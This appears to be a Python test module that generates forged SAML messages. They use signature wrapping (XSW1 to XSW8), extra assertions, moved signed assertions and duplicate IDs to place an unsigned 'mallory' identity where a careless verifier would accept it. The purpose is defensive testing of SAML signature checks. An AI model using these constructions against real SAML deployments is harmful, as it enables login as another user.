"""Signature wrapping, made by a script: eight ways to put a forged element where a careless reader looks.

XSW 1 to 8 follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012), each on a signed Response
and on a signed assertion, plain and with the assertion encrypted to us.
"""

import copy
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

from lxml import etree

from tests import saml_encryption as encryption
from tests import saml_factory as factory
from tests.saml_factory import DS, SAML, SAMLP, XENC, Spec, assertion_of, find

MALLORY = "mallory@example.onaliyun.com"
EVIL = Spec(response_id="_evil", assertion_id="_evil2", name_id=f"<saml:NameID>{MALLORY}</saml:NameID>")


def forged_assertion(name: str = "_evil2") -> Any:
    """An assertion that says mallory and that nobody signed."""
    made = assertion_of(EVIL.tree())
    made.set("ID", name)
    return made


def bare(original: Any) -> Any:
    """A copy without its own Signature: what the digest is over."""
    copied = copy.deepcopy(original)
    copied.tail = None
    for signature in copied.findall(f"{{{DS}}}Signature"):
        copied.remove(signature)
    return copied


def _signature_around(evil: Any, signed: Any, holder: Callable[[Any], Any]) -> None:
    """The forged element carries the Signature, and the Signature holds what was signed."""
    signature = copy.deepcopy(find(signed, "ds:Signature"))
    holder(signature).append(bare(signed))
    evil.insert(1, signature)


def _detached(evil: Any, signed: Any) -> None:
    evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
    evil.insert(1, bare(signed))


def _before(evil: Any, signed: Any) -> None:
    evil.insert(1, copy.deepcopy(signed))


def _at_the_end(evil: Any, signed: Any) -> None:
    evil.append(copy.deepcopy(signed))


def _signature_here_signed_behind(evil: Any, signed: Any) -> None:
    evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
    evil.append(bare(signed))


def _in_extensions(evil: Any, signed: Any) -> None:
    of_response = evil.tag == f"{{{SAMLP}}}Response"
    holder = etree.SubElement(evil, f"{{{SAMLP}}}Extensions" if of_response else f"{{{SAML}}}Advice")
    holder.append(copy.deepcopy(signed))


HOW: Mapping[str, Callable[[Any, Any], None]] = {
    "XSW1": partial(_signature_around, holder=lambda signature: signature),
    "XSW2": _detached,
    "XSW3": _before,
    "XSW4": _at_the_end,
    "XSW5": _signature_here_signed_behind,
    "XSW6": partial(_signature_around, holder=lambda signature: find(signature, "ds:KeyInfo")),
    "XSW7": _in_extensions,
    "XSW8": partial(_signature_around, holder=lambda signature: etree.SubElement(signature, f"{{{DS}}}Object")),
}
_BESIDE = {"XSW3", "XSW5", "XSW7"}  # of assertions: next to the forged one in the Response and not inside of it


def wrapped(how: str, of: str, *, encrypt: bool = False) -> Any:
    """A message in which mallory stands where `of` (`response`, `assertion`) stood that alice's provider signed."""
    if of == "response":
        signed = encryption.encrypted_response(sign_assertion=False, sign_response=True) if encrypt else None
        evil = EVIL.tree()
        if encrypt:
            holder = encryption.encrypt(evil)
            for element in holder.iter(f"{{{XENC}}}EncryptedData", f"{{{XENC}}}EncryptedKey"):
                element.set("Id", "_evil" + element.get("Id"))
        HOW[how](evil, factory.signed_response() if signed is None else signed)
        return evil
    root = factory.signed_assertion()
    signed, evil = assertion_of(root), forged_assertion()
    if how in _BESIDE:
        _beside(root, evil, signed, how)
    else:
        root.replace(signed, evil)
        HOW[how](evil, signed)
    if encrypt:
        encryption.encrypt(root, root.xpath("/samlp:Response/saml:Assertion", namespaces=factory.NS)[0])
    return root


def _beside(root: Any, evil: Any, signed: Any, how: str) -> None:
    root.insert(root.index(signed), evil)
    if how == "XSW5":
        evil.insert(1, copy.deepcopy(find(signed, "ds:Signature")))
        root.replace(signed, bare(signed))
    elif how == "XSW7":
        holder = etree.Element(f"{{{SAMLP}}}Extensions")
        root.insert(1, holder)
        holder.append(signed)


def second_assertions() -> dict[str, Callable[[], Any]]:
    """A second assertion as the first and the last child of every element that there is."""
    elements = [etree.QName(element).localname for element in factory.signed_assertion().iter()]
    made: dict[str, Callable[[], Any]] = {}
    for number, name in enumerate(elements):
        for first in (True, False):
            where = "first" if first else "last"
            made[f"second assertion {where} in element {number}, {name}"] = partial(_with_second, number, first, "")
    for number, kind in ((0, "EncryptedAssertion"), (0, "{urn:x}Assertion"), (5, "{}Assertion")):
        made[f"second assertion called {kind} in element {number}"] = partial(_with_second, number, True, kind)
    return made


def _with_second(number: int, first: bool, kind: str) -> Any:
    root = factory.signed_assertion()
    holder = list(root.iter())[number]
    evil = forged_assertion()
    if kind:
        evil.tag = kind.replace("{}", "") if kind.startswith("{") else f"{{{SAML}}}{kind}"
    holder.insert(0 if first else len(holder), evil)
    return root


def displaced() -> dict[str, Callable[[], Any]]:
    """The signed assertion moved somewhere else and an unsigned forged one in its place, and the like."""
    places = (
        "saml:Advice",
        "//saml:AttributeValue",
        "//saml:SubjectConfirmationData",
        "samlp:StatusDetail",
        "//saml:NameID",
    )
    made: dict[str, Callable[[], Any]] = {f"signed one moved to {place}": partial(_moved_to, place) for place in places}
    made["forged one encrypted beside the signed one"] = _encrypted_beside
    return made


def _moved_to(place: str) -> Any:
    root = factory.signed_assertion()
    signed, evil = assertion_of(root), forged_assertion()
    root.replace(signed, evil)
    if place == "saml:Advice":
        holder = etree.SubElement(evil, f"{{{SAML}}}Advice")
    elif place == "samlp:StatusDetail":
        holder = etree.SubElement(find(root, "samlp:Status"), f"{{{SAMLP}}}StatusDetail")
    else:
        holder = root.xpath(place, namespaces=factory.NS)[0]
    holder.append(signed)
    return root


def _encrypted_beside() -> Any:
    root = factory.signed_assertion()
    evil = forged_assertion()
    root.append(evil)
    encryption.encrypt(root, evil)
    return root


def same_id() -> Any:
    """Two assertions of one ID, so that a lookup by ID finds the other one."""
    root = factory.signed_assertion()
    root.append(forged_assertion("_assertion1"))
    return root
